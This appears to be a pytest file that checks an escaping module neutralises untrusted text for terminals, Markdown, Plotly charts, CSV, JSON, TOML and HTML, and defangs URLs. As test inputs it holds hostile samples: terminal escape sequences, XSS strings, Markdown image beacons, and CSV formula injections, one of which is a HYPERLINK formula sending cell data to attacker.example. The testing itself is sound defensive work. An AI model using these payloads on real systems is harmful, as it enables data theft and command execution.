"""Escaping of untrusted text for the terminal, Markdown, Plotly and CSV."""

from __future__ import annotations

import html
import json
import re
import tomllib

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pmtimeline.escaping import (
    csv_cell,
    csv_column,
    defang_urls,
    escape_terminal,
    html_text,
    json_safe,
    markdown_cell,
    markdown_code,
    markdown_text,
    plotly_text,
    plotly_texts,
    shorten,
    strip_controls,
    toml_string,
)

#: Characters that matter to some renderer, plus controls and bidi overrides.
NASTY = st.text(
    alphabet=st.sampled_from(list("`*_{}[]()#+-.!|<>~@:&;\\/=\"' \t\nabcAB12\x1b\x07\x9b\u202e\u2066\r\x00")),
    max_size=40,
)


def md() -> MarkdownIt:
    return MarkdownIt("gfm-like", {"linkify": False})


def visible(text: str) -> str:
    """What the escapers show of ``text`` (controls made visible, URLs defanged)."""
    return defang_urls(strip_controls(text))


# -- terminal -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
        "\x1b]52;c;QUJD\x07",
        "\x1b[8mhidden",
        "OK\rFAIL",
        "abc\x08\x08\x08",
        "\u202etxt.exe",
        "\x9b31m",
    ],
)
def test_terminal_output_has_no_control_bytes(payload: str) -> None:
    out = escape_terminal(payload)
    assert not re.search("[\x00-\x08\x0a-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
    # The text stays readable: escapes are visible.
    assert "\\x" in out or "\\u" in out


def test_terminal_keeps_tabs_and_shortens() -> None:
    assert escape_terminal("a\tb") == "a\tb"
    assert escape_terminal("x" * 50, limit=10) == "x" * 9 + "…"


def test_shorten() -> None:
    assert shorten("abc", 3) == "abc"
    assert shorten("abcd", 3) == "ab…"


def test_defang_urls() -> None:
    assert defang_urls("see https://evil.example/login now") == "see hxxps://evil[.]example/login now"
    assert defang_urls("ftp://files.example") == "fxp://files[.]example"
    assert defang_urls("no url here. really.") == "no url here. really."


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # the host of a URL, whatever its top-level label; the path and query keep their dots
        (
            "GET https://fx-rates.example.net/v2/report.pdf?x=1",
            "GET hxxps://fx-rates[.]example[.]net/v2/report.pdf?x=1",
        ),
        ("HTTP://Internal.Corp.lan:8443/a", "hxxp://Internal[.]Corp[.]lan:8443/a"),
        ("http://10.0.0.7:9200/_bulk", "hxxp://10[.]0[.]0[.]7:9200/_bulk"),
        ("https://alice:[REDACTED]@db.example/x", "hxxps://alice:[REDACTED]@db[.]example/x"),
        # bare host names: a known top-level label, also in e-mail addresses and at a sentence's end
        ("upload to sftp.clearing.example.net failed", "upload to sftp[.]clearing[.]example[.]net failed"),
        ("see www.example.org.", "see www[.]example[.]org."),
        ("mail alice@example.com", "mail alice@example[.]com"),
        ("evil.io, bit.ly/x", "evil[.]io, bit[.]ly/x"),
        ("payments.default.svc.cluster.local:8080", "payments[.]default[.]svc[.]cluster[.]local:8080"),
        ("db-1.corp.internal", "db-1[.]corp[.]internal"),
        ("DB01.CORP.EXAMPLE.COM", "DB01[.]CORP[.]EXAMPLE[.]COM"),
    ],
)
def test_defang_changes_urls_and_host_names(text: str, expected: str) -> None:
    assert defang_urls(text) == expected
    assert markdown_code(text, None) == f"`{expected}`"


@pytest.mark.parametrize(
    "text",
    [
        # Java, Kotlin and .NET classes and packages, also beside a URL in the same message
        "java.net.NoRouteToHostException: No route to host",
        "org.apache.kafka.common.errors.TimeoutException: Expiring 3 record(s)",
        "c.b.x.idp.SomeClient : token refresh failed",
        "at java.io.FileInputStream.open0(Native Method)",
        "System.IO.IOException: disk full",
        "System.IO",
        # Python loggers, modules, exceptions, attributes and files
        "search.handler",
        "psycopg2.OperationalError: FATAL: sorry, too many clients already",
        "logger.info",
        "np.int",
        'File "/app/settlement/worker.py", line 112, in run_batch',
        "settings.py config.example .env.example request.timeout.ms user.id",
        "config.settings.dev config.settings.local",
        # versions, addresses, numbers, sentences, topics
        "deploying v2.14.0 (build 2.14.0-rc.1)",
        "from 10.1.2.3 and ::1",
        "3.5 s elapsed. Done.",
        "Failed to publish ledger event to topic ledger.postings",
    ],
)
def test_defang_never_changes_words(text: str) -> None:
    assert defang_urls(text) == text
    url = "https://fx-rates.example.net/v2"
    assert defang_urls(f"{text} calling {url}") == f"{text} calling hxxps://fx-rates[.]example[.]net/v2"


# -- Markdown -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain", "`plain`"),
        ("a`b", "``a`b``"),
        ("``x``", "``` ``x`` ```"),
        (" lead", "`  lead `"),
        ("", "` `"),
        ("line1\nline2", "`line1⏎line2`"),
    ],
)
def test_markdown_code_fences(text: str, expected: str) -> None:
    assert markdown_code(text) == expected


@pytest.mark.parametrize(
    "payload",
    [
        "@everyone",
        "<img src=https://attacker.example/x.png>",
        "![](https://attacker.example/b?c=1)",
        "```\n## Fake section",
        "<!--",
        "<details open><summary>x</summary>",
        "[x](javascript:alert(1))",
        "#1",
        "\n# Root cause: the intern",
    ],
)
def test_markdown_payloads_render_as_literal_code(payload: str) -> None:
    rendered = md().render(f"Value: {markdown_code(payload)}\n")
    assert rendered.count("<code>") == 1
    for tag in ("<img", "<a ", "<details", "<h1", "<h2", "<!--"):
        assert tag not in rendered
    code = re.search(r"<code>(.*)</code>", rendered, flags=re.S)
    assert code is not None
    assert html.unescape(code.group(1)) == visible(payload)


@given(NASTY)
@settings(max_examples=300, deadline=None)
def test_markdown_code_always_renders_one_literal_span(text: str) -> None:
    rendered = md().render(f"Value: {markdown_code(text, None)}\n")
    code = re.fullmatch(r"<p>Value: <code>(.*)</code></p>\n", rendered, flags=re.S)
    assert code is not None, rendered
    assert html.unescape(code.group(1)) == (visible(text) or " ")


@given(NASTY)
@settings(max_examples=300, deadline=None)
def test_markdown_cell_stays_in_its_cell(text: str) -> None:
    table = f"| a | b |\n|---|---|\n| {markdown_cell(text, None)} | end |\n"
    rendered = md().render(table)
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.S)
    assert len(cells) == 2, rendered
    assert cells[1] == "end"
    code = re.fullmatch(r"<code>(.*)</code>", cells[0], flags=re.S)
    assert code is not None, cells[0]
    assert html.unescape(code.group(1)) == (visible(text) or " ")


@given(NASTY)
@settings(max_examples=300, deadline=None)
def test_markdown_text_is_literal_prose(text: str) -> None:
    rendered = md().render(f"Title: {markdown_text(text, None)}\n")
    body = re.fullmatch(r"<p>Title:(.*)</p>\n", rendered, flags=re.S)
    assert body is not None, rendered
    # No element at all: every markup character came out as text.
    assert "<" not in body.group(1)
    assert html.unescape(body.group(1)).strip() == visible(text).strip()


def test_markdown_text_escapes_mentions_and_links() -> None:
    assert markdown_text("@team [x](y)") == "\\@team \\[x\\]\\(y\\)"
    assert markdown_text("<b>") == "&lt;b&gt;"


# -- Plotly ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="https://evil.example/">click</a>',
        "<img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>",
        '<span style="font-size:300px;fill:red">BIG</span>',
        "a<br>b",
    ],
)
def test_plotly_text_has_no_tags(payload: str) -> None:
    out = plotly_text(payload)
    assert "<" not in out
    assert ">" not in out
    assert html.unescape(out) == payload


def test_plotly_text_strips_bidi_and_shortens() -> None:
    assert plotly_text("\u202egnp.exe") == "\\u202egnp.exe"
    assert len(plotly_text("A" * 100_000)) == 200


@settings(max_examples=200, deadline=None)
@given(
    values=st.lists(st.one_of(st.none(), NASTY, st.text(max_size=300)), max_size=30),
    limit=st.sampled_from([None, 0, 1, 2, 40, 100, 200]),
)
def test_plotly_texts_equals_plotly_text_of_each_value(values: list[str | None], limit: int | None) -> None:
    column = pd.Series(values, dtype="string")
    expected = [plotly_text("" if v is None else v, limit) for v in values]
    assert plotly_texts(column, limit).tolist() == expected


def test_plotly_texts_escapes_every_control_character_like_plotly_text() -> None:
    every = "".join(chr(c) for c in range(0x3000) if not 0xD800 <= c <= 0xDFFF) + "\ufeff\U0001f600"
    column = pd.Series([every, every[::-1], "plain <b>", None], dtype="string")
    assert plotly_texts(column, None).tolist() == [
        plotly_text(every, None),
        plotly_text(every[::-1], None),
        "plain &lt;b&gt;",
        "",
    ]


# -- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
    ],
)
def test_csv_cell_prefixes_formula_triggers(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("payload", "expected"),
    [("\r=1+1", "\\x0d=1+1"), ("\x00x", "\\x00x"), ("=\x1b[2J", "'=\\x1b[2J"), ("ok\u2066x", "ok\\u2066x")],
)
def test_csv_cell_escapes_controls_before_judging_the_start(payload: str, expected: str) -> None:
    # A CR or NUL shown escaped starts with a backslash: nothing left for a spreadsheet to run.
    assert csv_cell(payload) == expected


@pytest.mark.parametrize("value", [-5, -2.5, 3, "plain", "a=b", None])
def test_csv_cell_leaves_numbers_and_plain_text(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_column_matches_csv_cell() -> None:
    values = ["=1+1", "ok", None, "-2", "@x", "\tx", " =x"]
    column = csv_column(pd.Series(values, dtype="string[pyarrow]"))
    assert column.tolist() == [csv_cell(v) if v is not None else pd.NA for v in values]
    assert str(column.dtype) == "string"
    mixed = csv_column(pd.Series(["=1", -5, 2.5, None], dtype=object))
    assert mixed.tolist() == ["'=1", -5, 2.5, None]
    numbers = pd.Series([-5, 3])
    assert csv_column(numbers) is numbers


def test_csv_column_shows_terminal_controls_escaped_but_keeps_newlines() -> None:
    import pandas as pd

    from pmtimeline.escaping import csv_column

    out = csv_column(pd.Series(["ok\x1b[2J", "a\u202eb", "line1\nline2\tx", "=1+1", None], dtype="string"))
    assert out.iloc[0] == "ok\\x1b[2J"
    assert out.iloc[1] == "a\\u202eb"
    assert out.iloc[2] == "line1\nline2\tx"
    assert out.iloc[3] == "'=1+1"
    assert pd.isna(out.iloc[4])


def test_a_citation_may_skip_defanging() -> None:
    path = "/var/log/remote/web-01.example.com/syslog:12"
    assert markdown_code(path) == "`/var/log/remote/web-01[.]example[.]com/syslog:12`"
    assert markdown_code(path, None, defang=False) == f"`{path}`"
    assert markdown_cell("a|b.example.com", None, defang=False) == "`a\\|b.example.com`"


# -- every control character, JSON and TOML ----------------------------------------------------------

#: Characters that drive a terminal or reorder/hide text, named independently of the escaping module.
HOSTILE_CHARS = (
    "\x00\x01\x07\x08\x0b\x0c\r\x1b\x7f\x85\x9b"  # C0 (not TAB, LF), DEL, C1 (NEL, CSI)
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"  # bidi marks, overrides, isolates
    "\u200b\u200c\u200d\u2060\u2061\ufeff\u180e\u206a\ufff9"  # zero-width and other invisible format characters
    "\u2028\u2029"  # line and paragraph separators
    "\U000e0001\U000e0041\U000e007f"  # tag characters
)
HOSTILE_RE = re.compile("[" + re.escape(HOSTILE_CHARS) + "]")
ANY_TEXT = st.text(
    alphabet=st.one_of(st.sampled_from(list(HOSTILE_CHARS + "\t\n\"\\'`=")), st.characters(exclude_categories=["Cs"])),
    max_size=60,
)


@pytest.mark.parametrize("char", list(HOSTILE_CHARS))
def test_every_hostile_character_is_escaped_by_every_text_escaper(char: str) -> None:
    text = f"a{char}b"
    for out in (
        escape_terminal(text),
        strip_controls(text),
        markdown_code(text),
        markdown_cell(text),
        markdown_text(text),
        plotly_text(text),
        html_text(text),
        str(csv_cell(text)),
        csv_column(pd.Series([text], dtype="string")).iloc[0],
        plotly_texts(pd.Series([text], dtype="string"))[0],
    ):
        assert not HOSTILE_RE.search(out), (repr(char), out)
        assert "\\x" in out or "\\u" in out or "\\U" in out or "⏎" in out, out


def test_csv_keeps_newlines_and_tabs_but_not_carriage_returns() -> None:
    assert csv_cell("a\nb\tc") == "a\nb\tc"
    assert csv_cell("OK\rFAIL") == "OK\\x0dFAIL"
    assert csv_cell("\U000e0041x") == "\\U000e0041x"


@given(st.lists(ANY_TEXT, max_size=5), st.dictionaries(ANY_TEXT, ANY_TEXT, max_size=4))
@settings(max_examples=300, deadline=None)
def test_json_safe_is_the_same_document_without_raw_controls(texts: list[str], mapping: dict[str, str]) -> None:
    document = {"texts": texts, "mapping": mapping, "n": 1.5}
    for indent in (None, 2):
        text = json_safe(json.dumps(document, ensure_ascii=False, indent=indent))
        assert json.loads(text) == document
        # Whitespace between tokens is all that may stay raw: LF of the indentation.
        assert not HOSTILE_RE.search(text), text


def test_json_safe_keeps_readable_text_and_writes_tags_as_surrogate_pairs() -> None:
    text = json_safe(json.dumps({"title": "Störung 😀 \u202eexe.txt \U000e0041"}, ensure_ascii=False))
    assert text == '{"title": "Störung 😀 \\u202eexe.txt \\udb40\\udc41"}'
    assert json_safe('{"a": "plain"}') == '{"a": "plain"}'


@given(ANY_TEXT)
@settings(max_examples=300, deadline=None)
def test_toml_string_reads_back_as_written(value: str) -> None:
    literal = toml_string(value)
    assert tomllib.loads(f"x = {literal}\n")["x"] == value
    assert not HOSTILE_RE.search(literal)
    assert "\n" not in literal


def test_toml_string_keeps_astral_characters_readable() -> None:
    # json.dumps would write a surrogate pair, which TOML refuses.
    assert toml_string("Outage 😀") == '"Outage 😀"'
    assert toml_string('a"b\\c\x1b') == '"a\\"b\\\\c\\u001b"'


def test_html_text_is_never_markup() -> None:
    assert html_text('<b onclick="x">\u202e</b>') == "&lt;b onclick=&quot;x&quot;&gt;\\u202e&lt;/b&gt;"
    assert html_text("x" * 50, limit=10) == "x" * 9 + "…"


def test_has_controls_checks_a_whole_column() -> None:
    from pmtimeline.escaping import has_controls

    assert not has_controls(pd.Series(["plain", "Störung 😀", None], dtype="string[pyarrow]"))
    for char in HOSTILE_CHARS:
        assert has_controls(pd.Series(["plain", f"a{char}b", None], dtype="string")), repr(char)
    assert not has_controls(pd.Series([1, 2]))
    assert not has_controls(pd.Series([], dtype="string"))
    assert not has_controls(pd.Series([None, None], dtype="string[pyarrow]"))
    # A slice of a column sees only its own values (Arrow arrays with an offset).
    column = pd.Series(["ok", "a\u202eb", "x", "y"], dtype="string[pyarrow]")
    assert [has_controls(column.iloc[i : i + 1]) for i in range(4)] == [False, True, False, False]
    assert not has_controls(column.iloc[2:])
    assert csv_column(column.iloc[1:]).tolist() == ["a\\u202eb", "x", "y"]


def test_categorical_text_is_escaped_too() -> None:
    from pmtimeline.escaping import has_controls

    column = pd.Series(["=cmd", "a\u202eb", "ok", "=cmd"], dtype="category")
    assert csv_column(column).tolist() == ["'=cmd", "a\\u202eb", "ok", "'=cmd"]
    assert has_controls(column)
    assert not has_controls(pd.Series(["ok", "fine"], dtype="category"))
